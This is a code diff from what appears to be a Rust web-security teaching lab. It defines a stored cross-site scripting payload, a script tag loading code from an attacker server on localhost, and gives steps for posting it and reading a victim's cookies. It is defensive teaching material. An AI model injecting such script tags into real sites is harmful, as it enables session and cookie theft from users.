@@ -7,12 +7,11 @@ use axum::{
 };
 use maud::{Markup, html};
 
-use super::{
-    Lab, Line,
-    lines::TakenOut,
-    mallory::{self, SCRIPT},
-};
+use super::{Lab, Line, beside, lines::TakenOut};
 use crate::{Library, form::Form, page};
+
+/// The note that brings Mallory's script into a page of the library.
+const SCRIPT: &str = r#"<script src="http://127.0.0.1:PORT/script.js"></script>"#;
 
 /// An attack that the learner carries out.
 struct Attack {
@@ -68,7 +67,7 @@ const ATTACKS: [Attack; 5] = [
             "Sign out, and write this on the wall: SCRIPT",
             "Sign in here as ann, and open the wall.",
             "Open MALLORY/ to see what the script has told her.",
-            "Put one of the three lines back at a time, and open the wall again.",
+            "Put one of the three lines back at a time, sign in again for a new cookie, and open the wall.",
         ],
         lines: &[Line::Escape, Line::Policy, Line::HttpOnly],
     },
@@ -87,7 +86,7 @@ pub fn pages() -> Router<Library> {
 async fn attacks(lab: Lab) -> Markup {
     let content = html! {
         p { "Tick the lines that the program should run without. Every other one is put back." }
-        @if !mallory::is_there() {
+        @if !beside::is_there() {
             p { "Mallory's site is not running. " code { "cargo run --bin step11" }
                 " starts it, one port above the library." }
         }
@@ -119,7 +118,7 @@ fn section(attack: &Attack, lab: &Lab) -> Markup {
 
 /// A sentence with links to Mallory's site, as another port and as another site, and with the note that has her script.
 fn with_addresses(step: &str) -> Markup {
-    let port = mallory::port();
+    let port = beside::port();
     let link = |host: &str, path: &str| {
         let address = format!("http://{host}:{port}{path}");
         html! { a href=(address) { (address) } }
